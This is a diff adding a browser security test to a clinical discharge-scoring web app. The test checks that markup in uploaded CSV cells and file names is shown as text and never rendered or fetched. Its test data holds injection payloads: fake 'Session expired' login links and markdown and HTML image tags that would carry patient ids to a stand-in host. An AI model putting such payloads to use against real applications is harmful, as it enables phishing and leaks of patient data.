@@ -8,6 +8,8 @@ run. The test skips, with the reason, only when no browser can be had.
 
 from __future__ import annotations
 
+import contextlib
+import http.server
 import io
 import json
 import os
@@ -15,7 +17,9 @@ import shutil
 import signal
 import socket
 import subprocess
+import threading
 import time
+import urllib.parse
 import urllib.request
 from collections.abc import Iterator
 from pathlib import Path
@@ -254,3 +258,74 @@ def test_readme_screenshots_of_the_other_pages(browser, server, app_cohort, app_
     page.close()
     for name in ("discharge_check", "batch_discharges", "fairness_audit", "runs"):
         assert 0 < (SCREENSHOTS / f"{name}.png").stat().st_size <= MAX_SCREENSHOT_BYTES
+
+
+@contextlib.contextmanager
+def _listener() -> Iterator[tuple[int, list[str]]]:
+    """A web server on 127.0.0.1 standing in for a remote host: it records every request it gets."""
+    hits: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802 (the http.server API)
+            hits.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "image/gif")
+            self.end_headers()
+            self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield httpd.server_address[1], hits
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+
+
+def test_markup_in_an_uploaded_file_is_shown_as_text_never_rendered_or_fetched(browser, server, app_cohort):
+    """Issue 16: a crafted CSV (cells and file name) must not put a link or an image on the page, nor make the
+    browser fetch anything from another host (the image URL would carry a patient id)."""
+    with _listener() as (port, hits):
+        remote = f"http://127.0.0.1:{port}"
+        batch = app_cohort[app_cohort["discharged"]].head(6).astype({"sex": object, "ecg": object, "race": object})
+        cells = {
+            (0, "sex"): "[Session expired - click](http://example.invalid/x)",
+            (1, "ecg"): f"![x]({remote}/img?id=123)",
+            (2, "race"): f'<img src="{remote}/html-img?id=456">',
+            (3, "ecg"): '<a href="http://example.invalid/a">log in again</a>',
+            (4, "sex"): f"<{remote}/autolink?id=789>",
+        }
+        for (row, column), value in cells.items():
+            batch.iloc[row, batch.columns.get_loc(column)] = value
+        name = f"[Session expired](http:example.invalid)![p](http:127.0.0.1:{port}) <img src=http:127.0.0.1:{port}>.csv"
+
+        page = _open(browser, server, "batch_discharges")
+        host = urllib.parse.urlsplit(server).netloc
+        outbound: list[str] = []
+        page.on("request", lambda request: outbound.append(request.url))
+        page.locator(".st-key-batch_file input[type='file']").set_input_files(
+            files=[{"name": name, "mimeType": "text/csv", "buffer": batch.to_csv(index=False).encode()}]
+        )
+        alert = page.locator("[data-testid='stAlert']").filter(has_text="Nothing was scored")
+        alert.wait_for()
+        _idle(page)
+        page.wait_for_timeout(2000)  # time for any image the page asked for to be requested
+
+        shown = alert.inner_text().replace("\u2060", "")  # md() puts word joiners into URLs
+        for value in cells.values():
+            if value.startswith("<a") or value.startswith("<img") or "Session" in value:
+                assert value in shown, shown  # the user sees the text as it is in the file
+        assert "[Session expired](http:example.invalid)" in shown  # the file name, as text
+        links = page.locator("a").evaluate_all("nodes => nodes.map(node => node.href)")
+        images = page.locator("img, image, source, iframe").evaluate_all("nodes => nodes.map(n => n.src || '')")
+        foreign = [url for url in links + images if url and urllib.parse.urlsplit(url).netloc not in ("", host)]
+        assert foreign == [], (foreign, alert.inner_html()[:3000])
+        assert alert.locator("a, img").count() == 0
+        elsewhere = [url for url in outbound if urllib.parse.urlsplit(url).netloc not in ("", host)]
+        assert elsewhere == [], elsewhere
+        assert hits == [], hits
+    page.close()
